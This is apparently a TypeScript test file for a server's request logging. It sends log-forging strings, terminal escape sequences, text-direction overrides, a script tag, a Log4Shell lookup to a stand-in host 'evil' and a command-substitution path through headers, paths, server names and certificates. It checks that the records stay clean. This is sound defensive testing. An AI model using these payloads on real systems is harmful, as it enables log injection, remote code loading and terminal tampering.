// What a stranger may choose and a record holds: names that would end a line, forge a second record, or play with the
// terminal of whoever reads it.

import { forwarded, refused, type WireCase, type WireCaseClass } from './wire-case.ts';

const forging = 'CWE-117: log forging';
const terminal = 'CWE-150: terminal control';
const bidi = 'CVE-2021-42574: text direction';
const got = forwarded('GET /x HTTP/1.1\nHost: a\n\n');
const get = 'GET /x HTTP/1.1\r\nHost: a\r\n';

const line = '"}\n{"type":"decision","decision":"allow"}';
const hostile: readonly (readonly [what: string, text: string, source: string])[] = [
  ['CR LF and a record', `a\r\n${line}`, forging],
  ['a quote and a brace', 'a"},{"decision":"allow', forging],
  ['a backslash at its end', 'a\\', forging],
  ['an escape sequence', '\x1b[2J\x1b[31mallow\x1b[0m', terminal],
  ['C1 control octets', '\u009b2Jallow', terminal],
  ['backspaces', 'deny\b\b\b\ballow', terminal],
  ['a text direction override', '\u202ewolla\u202c', bidi],
  ['text direction isolates', '\u2066allow\u2069', bidi],
  ['line and paragraph separators', 'a\u2028b\u2029c', forging],
  ['a byte order mark', '\ufeffallow', forging],
  ['markup', '<script>alert(1)</script>', 'CWE-79'],
  ['a look-up', '$' + '{jndi:ldap://evil/x}', 'CVE-2021-44228'],
];

/** Text as the octets of its UTF-8, one character each. */
function octets(text: string): string {
  return Buffer.from(text, 'utf8').toString('latin1');
}

/** A DNS name of a certificate holds nothing else (RFC 5280 §4.2.1.6). */
function isAscii(text: string): boolean {
  return /^[\x00-\x7f]*$/.test(text);
}

const requestIds: readonly (readonly [what: string, id: string, isTaken: boolean, source: string])[] = [
  ['quotes and braces', '"},{"decision":"allow","x":"', true, forging],
  ['backslashes', '\\u000a\\n\\', true, forging],
  ['markup', '<script>alert(1)</script>', true, 'CWE-79'],
  ['a look-up', '$' + '{jndi:ldap://evil/x}', true, 'CVE-2021-44228'],
  ['percent-encoded CRLF', '%0d%0aallow', true, forging],
  ['128 characters', 'i'.repeat(128), true, 'wire.md: request ids'],
  ['129 characters', 'i'.repeat(129), false, 'wire.md: request ids'],
  ['a space', 'a b', false, 'wire.md: request ids'],
  ['a tab', 'a\tb', false, 'wire.md: request ids'],
  ['a text direction override', octets('\u202ewolla'), false, bidi],
  ['C1 control octets', '\x9b2J', false, terminal],
];

const traces: readonly (readonly [what: string, value: string, traceId: string | null, source: string])[] = [
  [
    'a good one',
    '00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01',
    '4bf92f3577b34da6a3ce929d0e0e4736',
    'W3C Trace Context §3.2',
  ],
  [
    'letters in upper case',
    '00-4BF92F3577B34DA6A3CE929D0E0E4736-00F067AA0BA902B7-01',
    null,
    'W3C Trace Context §3.2.2',
  ],
  ['a quote in it', '00-4bf92f3577b34da6a3ce929d0e0e473"-00f067aa0ba902b7-01', null, forging],
  ['version ff', 'ff-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01', null, 'W3C Trace Context §3.2.2.1'],
  [
    'more behind version 00',
    '00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01-"x"',
    null,
    'W3C Trace Context §3.2.2',
  ],
];

const pathsOnRecord: readonly (readonly [raw: string, source: string])[] = [
  ['/x%22%7D,%7B%22decision%22:%22allow', forging],
  ['/x%E2%80%AEwolla', bidi],
  ['/x%E2%80%A8y', forging],
  ['/x%C2%9B2J', terminal],
  ["/x'$(id)&", forging],
];

const unreadable: readonly (readonly [what: string, send: string, source: string])[] = [
  ['a method with an escape sequence', '\x47\x1b[2J /x HTTP/1.1\r\nHost: a\r\n\r\n', terminal],
  ['a path with a text direction override', `GET /${octets('\u202ewolla')} HTTP/1.1\r\nHost: a\r\n\r\n`, bidi],
  ['a path that would end a record', 'GET /x%0d%0a%22%7D HTTP/1.1\r\nHost: a\r\n\r\n', forging],
  ['a Host with a quote', 'GET /x HTTP/1.1\r\nHost: a"},{"b\r\n\r\n', forging],
  ['a name with C1 control octets', `${get}\x9b2J: y\r\n\r\n`, terminal],
  ['a value with CR alone', `${get}X: y\rGET /admin 200 allow\r\n\r\n`, forging],
  ['a version of markup', 'GET /x <script>/1.1\r\nHost: a\r\n\r\n', 'CWE-79'],
];

export const records: WireCaseClass = {
  title: 'Records that strangers would forge',
  about:
    'Whatever comes by path, field, server name or certificate: each record stays one line of printable ASCII, and its text holds no control or text direction characters even when it is decoded.',
  cases: [
    ...requestIds.map(
      ([what, id, isTaken, source]): WireCase => ({
        name: `a request id of ${what} is ${isTaken ? 'kept' : 'made anew'}`,
        source,
        send: `${get}X-Request-Id: ${id}\r\n\r\n`,
        ...(isTaken ? { added: { 'x-request-id': id }, recorded: { 'correlation.request_id': id } } : {}),
        expect: got,
      }),
    ),
    ...traces.map(
      ([what, value, traceId, source]): WireCase => ({
        name: `a trace with ${what}`,
        source,
        send: `${get}traceparent: ${value}\r\n\r\n`,
        ...(traceId === null ? {} : { recorded: { 'correlation.trace_id': traceId } }),
        expect: got,
      }),
    ),
    ...pathsOnRecord.map(
      ([raw, source]): WireCase => ({
        name: `\`${raw}\``,
        source,
        send: `GET ${raw} HTTP/1.1\r\nHost: a\r\n\r\n`,
        recorded: { 'http.path': raw },
        expect: forwarded(`GET ${raw} HTTP/1.1\nHost: a\n\n`),
      }),
    ),
    ...unreadable.map(([what, send, source]): WireCase => ({ name: what, source, send, expect: refused() })),
    ...hostile.map(
      ([what, text, source]): WireCase => ({
        name: `a server name (SNI) with ${what}`,
        source,
        serverName: text,
        send: `${get}\r\n`,
        expect: got,
      }),
    ),
    ...hostile.map(
      ([what, text, source]): WireCase => ({
        name: `a certificate whose names hold ${what}`,
        source,
        certificateNames: { commonName: text, ...(isAscii(text) ? { dns: text } : {}) },
        send: `${get}\r\n`,
        expect: got,
      }),
    ),
  ],
};
